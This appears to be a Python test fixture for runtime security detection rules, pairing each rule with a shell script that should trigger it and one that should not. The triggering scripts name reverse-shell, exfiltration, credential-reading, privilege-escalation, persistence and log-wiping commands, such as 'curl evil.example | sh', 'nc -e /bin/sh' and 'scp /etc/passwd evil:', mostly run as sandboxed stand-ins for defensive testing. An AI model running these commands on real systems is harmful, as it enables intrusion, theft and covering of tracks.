"""For each rule a script that makes it fire, and one that it must be silent about. ``record.py`` runs them and keeps the bytes."""

PREAMBLE = """
export PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root
ip link set lo up
for place in /tmp /root /var/log /mnt /home /opt; do mount -t tmpfs none $place; done
cd /
as() { cp /bin/true /tmp/$1; /tmp/$@; }                              # a program of that name
shell() { cp /bin/dash /tmp/$1; /tmp/$1 -c "$2; true"; }             # a program of that name that starts others
connects() { python3 -c "
import socket,sys
s=socket.create_server(('$1',$2)); c=socket.create_connection(('$1',$2)); $3"; }
asks() { python3 -c "
import socket
server='${SERVER:-127.0.0.1}'
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((server,53))
for n in '$1'.split():
    q=b'\\\\x12\\\\x34\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0'+b''.join(bytes([len(l)])+l.encode() for l in n.split('.'))+b'\\\\0\\\\0\\\\${TYPE:-1}\\\\0\\\\1'
    c=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); c.sendto(q,(server,53)); a,p=s.recvfrom(512)
    if '${MISSING:-}': s.sendto(a[:2]+bytes([0x81,0x83])+a[4:],p); c.recv(512)"; }
missing() { MISSING=1 asks "$1"; }
tls() { python3 -c "
import socket,ssl,contextlib
s=socket.create_server(('127.0.0.1',6443)); c=socket.create_connection(('127.0.0.1',6443)); c.settimeout(0.3)
with contextlib.suppress(OSError): ssl._create_unverified_context().wrap_socket(c,server_hostname='$1')"; }
calls() { python3 -c "import ctypes,os; L=ctypes.CDLL(None); $1"; }
token=/tmp/serviceaccount/token; mkdir -p /tmp/serviceaccount; echo x > $token
"""
SCENARIOS: dict[str, tuple[str, str]] = {
    "R0001": ("id >/dev/null", "true"),
    "R0002": ("cat /etc/hosts >/dev/null", "true"),
    "R0004": ("mknod /tmp/x b 7 99", "chown 1:1 /tmp"),
    "R0005": ("asks evil.example.com", "asks good.example.com"),
    "R0006": ("cat $token", "as app; true < /etc/hosts"),
    "R0007": ("as kubectl get secrets", "as kubectx"),
    "R0008": ("cat /proc/1/environ >/dev/null", "cat /proc/1/cmdline >/dev/null"),
    "R0009": ("calls 'L.syscall(321, 5, ctypes.create_string_buffer(128), 128)'", "calls 'L.syscall(321, 0, ctypes.create_string_buffer(128), 128)'"),
    "R0010": ("cat /etc/shadow >/dev/null", "cat /etc/passwd >/dev/null; as sshd"),
    "R0011": ("python3 -c \"import socket; s=socket.socket(2,2); s.connect(('8.8.8.8',9))\" || true", "python3 -c \"import socket; s=socket.socket(2,2); s.connect(('10.0.0.8',9))\" || true"),
    "R0040": ("id -u >/dev/null", "id -g >/dev/null"),
    "R1000": ("cp /bin/true /dev/shm/x; /dev/shm/x; rm /dev/shm/x", "touch /dev/shm/x; cat /dev/shm/x; rm /dev/shm/x"),
    "R1001": ("mkdir /tmp/low /tmp/up /tmp/work /tmp/all; mount -t overlay none -o lowerdir=/tmp/low,upperdir=/tmp/up,workdir=/tmp/work /tmp/all; cp /bin/true /tmp/all/x; /tmp/all/x", "mkdir /tmp/low /tmp/up /tmp/work /tmp/all; cp /bin/true /tmp/low/x; mount -t overlay none -o lowerdir=/tmp/low,upperdir=/tmp/up,workdir=/tmp/work /tmp/all; /tmp/all/x"),
    "R1003": ("connects 127.0.0.1 40022 \"c.sendall(b'SSH-2.0-x\\r\\n')\"", "connects 127.0.0.1 2022 \"c.sendall(b'SSH-2.0-x\\r\\n')\""),
    "R1004": ("mkdir /mnt/volume; cp /bin/true /mnt/volume/x; /mnt/volume/x", "mkdir /mnt/volumes; cp /bin/true /mnt/volumes/x; /mnt/volumes/x"),
    "R1005": ("python3 -c \"import os; f=os.memfd_create('evil'); os.write(f, open('/bin/true','rb').read()); os.execve(f, ['x'], {})\"", "python3 -c \"import os; f=os.memfd_create('fine')\""),
    "R1006": ("unshare -U true", "true"),
    "R1007": ("as xmrig; as kworker -o stratum+tcp://pool.example.com:3333 -u 4A", "as app --pool 10 --listen :3333x; as curl http://shop.example:8080/"),
    "R1008": ("asks pool.supportxmr.com", "asks supportxmr.com.example.org"),
    "R1009": ("connects 127.0.0.1 3333", "connects 127.0.0.1 5432"),
    "R1010": ("ln -s /etc/shadow /tmp/x", "ln -s /etc/hosts /tmp/x"),
    "R1011": ("mount -t tmpfs none /opt; mkdir /opt/etc; echo /x.so > /opt/etc/ld.so.preload", "cat /etc/ld.so.preload 2>/dev/null || true"),
    "R1012": ("mkdir /tmp/etc; touch /tmp/etc/shadow; ln /tmp/etc/shadow /tmp/x", "touch /tmp/x; ln /tmp/x /tmp/y"),
    "R1015": ("python3 -c \"import ctypes,subprocess; p=subprocess.Popen(['sleep','9']); ctypes.CDLL(None).ptrace(16,p.pid,0,0); p.kill()\"", "calls 'L.ptrace(2,0,0,0)'"),
    "RL001": ("nsenter -t $$ -u true", "true"),
    "RL003": ("calls 'L.ptrace(0,0,0,0)'", "calls 'L.ptrace(2,0,0,0)'"),
    "RL004": ("shell nginx 'sh -c id >/dev/null'", "shell app 'sh -c id >/dev/null'"),
    "RL005": ("shell postgres 'id >/dev/null'", "shell app 'id >/dev/null'"),
    "RL007": ("tls kubernetes.default.svc", "tls shop.example"),
    "RL008": ("connects 127.0.0.1 4445 \"__import__('os').dup2(c.fileno(),0)\"", "python3 -c \"import os; os.dup2(os.open('/dev/null',0),0)\""),
    "RL009": ("timeout 1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' || true", "sh -c 'echo /dev/tcp-of-nothing'"),
    "RL010": ("as nc -e /bin/sh 127.0.0.1 9; as socat tcp:x:9 exec:sh", "as nc -z 127.0.0.1 9; as socat tcp:x:9 -"),
    "RL011": ("grep -r password /tmp || true", "grep -r shop /tmp || true"),
    "RL012": ("echo x > /var/log/auth.log; : > /var/log/auth.log", "echo x >> /var/log/auth.log; : > /tmp/plain"),
    "RL013": ("touch /var/log/auth.log; rm /var/log/auth.log", "touch /tmp/x; rm /tmp/x"),
    "RL014": ("as shred -u /tmp/x; sh -c 'unset HISTFILE; true'", "rm -f /tmp/x; sh -c 'true; true'"),
    "RL015": ("touch /root/.bash_history; rm /root/.bash_history", "touch /root/.bashrc2; rm /root/.bashrc2"),
    "RL016": ("ln -s /dev/null /root/.bash_history", "ln -s /dev/null /root/nothing"),
    "RL017": ("sh -c ': > /root/.bash_history'", "touch /root/.bash_history; cat /root/.bash_history"),
    "RL018": ("python3 -c 'import socket; socket.socket(17,3)'", "python3 -c 'import socket; socket.socket(2,1)'"),
    "RL019": ("as debugfs /dev/sda1; dd if=/dev/sda1 of=/dev/null count=1 2>/dev/null || true", "dd if=/dev/zero of=/dev/null count=1 2>/dev/null"),
    "RL020": ("mkdir -p /mnt/dev; touch /mnt/dev/sda1; cat /mnt/dev/sda1", "cat /dev/null; mkdir -p /mnt/dev; touch /mnt/dev/sdcard; cat /mnt/dev/sdcard"),
    "RL021": ("mknod /tmp/disk b 7 99", "mknod /tmp/whiteout c 0 0; mkfifo /tmp/pipe"),
    "RL022": ("mkdir /tmp/group; echo /x > /tmp/group/release_agent", "mkdir /tmp/group; echo 1 > /tmp/group/notify_on_release"),
    "RL023": ("chroot /mnt /x 2>/dev/null || true", "cd /mnt; chroot / true"),
    "RL024": ("mkdir /tmp/m; mount -t tmpfs none /tmp/m", ""),
    "RL025": ("echo x >> /root/.bashrc", "cat /root/.bashrc 2>/dev/null || echo x > /root/notes"),
    "RL026": ("mkdir -p /mnt/etc/cron.d; echo x > /mnt/etc/cron.d/job", "cat /etc/crontab 2>/dev/null; echo x > /tmp/cron"),
    "RL027": ("mkdir /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa", "mkdir /root/.ssh; echo k > /root/.ssh/known_hosts; cat /root/.ssh/known_hosts"),
    "RL028": ("mkdir /root/.aws; echo k > /root/.aws/credentials; cat /root/.aws/credentials", "echo k > /root/credentials; cat /root/credentials"),
    "RL029": ("mkdir /root/.ssh; echo k >> /root/.ssh/authorized_keys", "mkdir /root/.ssh; touch /root/.ssh/config; cat /root/.ssh/config"),
    "RL030": ("as useradd -u 0 evil", "as users"),
    "RL031": ("mkdir /mnt/etc; echo x >> /mnt/etc/passwd", "cat /etc/passwd >/dev/null"),
    "RL032": ("cp /bin/true /tmp/x; chmod u+s /tmp/x", "cp /bin/true /tmp/x; chmod 755 /tmp/x; mkdir /tmp/t; chmod 1777 /tmp/t"),
    "RL033": ("cp /bin/true /tmp/x; chmod +x /tmp/x", "touch /root/x; chmod +x /root/x; touch /tmp/y; chmod 600 /tmp/y"),
    "RL034": ("ip addr add 169.254.169.254/32 dev lo; connects 169.254.169.254 80", "connects 127.0.0.1 80"),
    "RL035": ("as apt-get install -y nmap", "as apt-get --version"),
    "RL036": ("as nmap 10.0.0.0/8", "as nc -z shop 80"),
    "RL037": ("as scp /etc/passwd evil:", "as cp-tool"),
    "RL038": ("as wget -O /tmp/x http://evil.example/x; sh -c 'as() { true; }; true || curl -s http://evil.example | sh'", "as wget -O /srv/x http://shop.example/x"),
    "RL039": ("shell npm 'curl --version >/dev/null 2>&1 || wget --version >/dev/null'", "shell app 'id >/dev/null'"),
    "RL040": ("mkdir -p /tmp/run; python3 -c \"import socket; s=socket.socket(1); s.connect('/tmp/run/docker.sock')\" 2>/dev/null || true", "python3 -c \"import socket; s=socket.socket(1); s.connect('/tmp/run/db.sock')\" 2>/dev/null || true"),
    "RL041": ("as docker ps; as curl --unix-socket /var/run/docker.sock http://x/", "as dockerize; as curl http://x/"),
    "RL042": ("sh -c 'echo dHJ1ZQ== | base64 -d | sh'", "sh -c 'echo dHJ1ZQ== | base64 -d >/tmp/x'"),
    "RL043": ("python3 -c \"import os; os.setuid(1000); os.setuid(0)\" 2>/dev/null || true", "python3 -c \"import os; os.setuid(1000)\""),
    "RL044": ("calls 'L.syscall(323,0)'", "true"),
    "RL045": ("cp /bin/true /tmp/sudoedit; /tmp/sudoedit -s 'x\\'", "cp /bin/true /tmp/sudo; /tmp/sudo -u x y"),
    "RL046": ("mount -t tmpfs none /dev; echo x > /dev/.hidden", "cat /dev/null"),
    "RL047": ("cp /bin/true /tmp/.x; /tmp/.x", "mkdir -p /root/.local/bin; cp /bin/true /root/.local/bin/x; /root/.local/bin/x"),
    "RL048": ("mount -t tmpfs none /usr/local/bin; cp /bin/true /usr/local/bin/ls", "cat /usr/bin/true >/dev/null; cp /bin/true /tmp/ls"),
    "RL049": ("echo x > /tmp/entrypoint.sh", "cat /tmp/entrypoint.sh 2>/dev/null || true"),
    "RL050": ("(id; uname -a; hostname; df) >/dev/null 2>&1; true", "uname -a >/dev/null; uname -r >/dev/null; true"),
    "RL051": ("asks '4d5a90000300000004000000ffff0000b8000000000000004000.evil.example'", "asks 'www.shop.example api.shop.example cdn.shop.example'"),
    "RL052": ("mkdir -p /tmp/x /mnt/host/etc; touch /mnt/host/etc/hostname; cat /mnt/host/etc/hostname", "mkdir -p /mnt/data/etc; touch /mnt/data/etc/hostname; cat /mnt/data/etc/hostname"),
    "RL053": ("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/liblzma.so.5.6.1; LD_PRELOAD=/tmp/liblzma.so.5.6.1 /bin/true", "cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/liblzma.so.5.6.2; LD_PRELOAD=/tmp/liblzma.so.5.6.2 /bin/true"),
    "RL054": ("cp /usr/bin/python3 /tmp/ls; PYTHONHOME=/usr /tmp/ls -c \"import socket; s=socket.create_server(('127.0.0.1',77)); socket.create_connection(('127.0.0.1',77))\"", "connects 127.0.0.1 77"),
    "RL055": ("cp /usr/bin/python3 /tmp/java; PYTHONHOME=/usr /tmp/java -c \"import socket; s=socket.create_server(('127.0.0.1',80)); c=socket.create_connection(('127.0.0.1',80)); c.sendall(b'GET /Evil.class HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')\"", "connects 127.0.0.1 80 \"c.sendall(b'GET /index.html HTTP/1.1\\r\\nHost: shop.example\\r\\n\\r\\n')\""),
    "RL057": ("ln -s /run/containerd/containerd.sock /tmp/x", "ln -s /run/app.sock /tmp/x"),
    "RL058": ("ip addr add 192.0.2.9/32 dev lo; connects 192.0.2.9 10250", "ip addr add 192.0.2.9/32 dev lo; connects 192.0.2.9 8080"),
    "RL059": ("missing 'a1.dga.example a2.dga.example a3.dga.example a4.dga.example a5.dga.example'", "missing 'a1.x.cluster.local a2.x.cluster.local a3.x.cluster.local a4.x.cluster.local a5.x.cluster.local a.b.example'"),
    "RL060": ("TYPE=20 asks c.evil.example", "asks c.shop.example"),
    "RL061": ("ip addr add 8.8.8.8/32 dev lo; SERVER=8.8.8.8 asks c.shop.example", "asks c.shop.example"),
}  # fmt: skip
MADE_BY_HAND = {
    "R0003": "nothing sends its events yet",
    "R1002": "the kernel of the tests has no modules",
    "R1030": "a ring is one call per request; the records of every probe have one",
    "R2000": "nothing sends its events yet",
    "R2001": "nothing sends its events yet",
    "RL002": "the environment is recorded where it is asked for alone",
    "RL006": "a test has no terminal",
    "RL056": "needs a process that comes from outside",
}
"""Rules whose events ``test_rules.py`` makes itself, and why."""
